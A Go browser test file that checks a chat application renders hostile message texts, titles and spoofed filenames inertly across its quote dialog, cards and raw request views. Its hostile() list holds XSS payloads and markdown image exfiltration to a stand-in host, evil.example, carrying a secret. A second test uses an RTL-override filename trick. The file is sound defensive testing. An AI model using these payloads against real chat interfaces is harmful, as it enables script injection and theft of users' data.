package browser

import (
	"strings"
	"testing"
)

// hostile returns texts that broke other products.
func hostile() []string {
	return []string{
		`<img src=x onerror="window.__hit=1">`,
		`<script>window.__hit=1</script>`,
		`[a](javascript:window.__hit=1) [b](JaVa&#x09;script:window.__hit=1) [c](data:text/html,<script>window.__hit=1</script>)`,
		`![](https://evil.example/p?d=SECRET) ![x](//evil.example/q) <img src="https://evil.example/r">`,
		`<iframe src="https://evil.example/f"></iframe><svg onload="window.__hit=1"><a xlink:href="javascript:window.__hit=1">`,
		"<style>body{display:none}</style><div style=\"background:url(https://evil.example/s)\">styled</div>",
		"```html\n<img src=x onerror=window.__hit=1>\n```",
		`<a href="https://evil.example" target="_self" onclick="window.__hit=1">link</a> <b onmouseover=window.__hit=1>x</b>`,
		`| a |` + "\n" + `|---|` + "\n" + `| <img src=x onerror=window.__hit=1> |`,
	}
}

func TestHostileTextsAreInertEverywhere(t *testing.T) {
	w := start(t)
	text := strings.Join(hostile(), "\n\n")
	title := `<img src=x onerror="window.__hit=1">"><script>window.__hit=1</script>`
	w.conversation("a", title, "isolated", `<b onclick=x>`)
	w.conversation("b", "Target", "open", "")
	_, source := w.says("a", text, text)
	p := w.open("a")
	p.wait(`document.querySelectorAll(".message").length === 2`)

	p.quote(source, "b") // the title and the text in the question …
	p.wait(`document.querySelector("dialog[open] .sentence")`)
	p.inert()
	p.click("dialog .button.caution")
	p.at("b")
	p.wait(`document.querySelector(` + js(pendingCard) + `)`) // … on the card …
	p.inert()
	p.write("With this.")
	p.send()
	w.settled("b", "With this.")
	p.wait(`document.querySelector(".message.user .card.sent")`) // … and where it was sent
	p.click(`[aria-label="Show what the model was given"]`)
	p.click(".steps .step")
	p.wait(`document.querySelector(".wire.role-user")`)
	p.inert()
	eval[bool](p, `(document.querySelector(".request-bar [role=tab]:nth-child(2)").click(), true)`)
	p.wait(`document.querySelector("pre.raw")`)
	p.inert()
}

// inert checks that nothing of what was shown has come alive.
func (p *page) inert() {
	p.Helper()
	if eval[bool](p, `window.__hit !== undefined`) {
		p.Error("a script in a text ran")
	}
	alive := eval[[]string](p, `[...document.querySelectorAll("#app :is(img:not(.cm-widgetBuffer), script, iframe, object, embed, style, svg a, [onerror], [onclick], [onload], [onmouseover]), #app .md [style]")].map((x) => x.outerHTML)`)
	if len(alive) > 0 {
		p.Errorf("made of text: %q", alive)
	}
	links := eval[[]string](p, `[...document.querySelectorAll(".md a")].filter((a) => !/^https?:/.test(a.getAttribute("href")) || a.rel !== "noopener noreferrer" || a.target !== "_blank").map((a) => a.outerHTML)`)
	if len(links) > 0 {
		p.Errorf("links that are not harmless: %q", links)
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, address := range p.asked {
		if !strings.HasPrefix(address, p.w.line.URL) {
			p.Errorf("the page asked for %s", address)
		}
	}
}

func TestInvisibleCharactersShowInTheQuestion(t *testing.T) {
	w := start(t)
	w.conversation("a", "Source\u202e", "isolated", "")
	w.conversation("b", "Target", "open", "")
	_, source := w.says("a", "Say it.", "safe\u202eelif.exe\u202c and zero\u200bwidth 👨‍👩‍👧 "+strings.Repeat("long ", 200))
	p := w.open("a")
	p.quote(source, "b")
	p.wait(`document.querySelector("dialog[open] .sentence")`)
	shown := p.text("dialog")
	for _, raw := range []string{"\u202e", "\u200b"} {
		if strings.Contains(p.text("dialog .excerpt blockquote"), raw) {
			t.Errorf("%+q reached the question as it is", raw)
		}
	}
	for _, part := range []string{"202E", "200B", "👨‍👩‍👧", "characters"} {
		if !strings.Contains(strings.ToUpper(shown), strings.ToUpper(part)) {
			t.Errorf("the question does not show %s:\n%s", part, shown)
		}
	}
}
